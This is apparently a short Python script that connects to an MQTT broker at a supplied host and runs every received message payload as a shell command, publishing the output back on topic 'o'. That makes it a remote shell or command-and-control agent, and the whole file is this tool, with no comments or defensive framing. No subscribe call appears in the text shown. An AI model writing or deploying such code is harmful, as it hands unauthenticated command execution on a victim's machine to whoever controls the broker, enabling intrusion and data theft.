import subprocess

import paho.mqtt.client as mqtt


def on_message(client, data, message):
    client.publish("o", subprocess.getoutput(message.payload.decode()))


def serve(host):
    client = mqtt.Client()
    client.on_message = on_message
    client.connect(host)
    client.loop_forever()
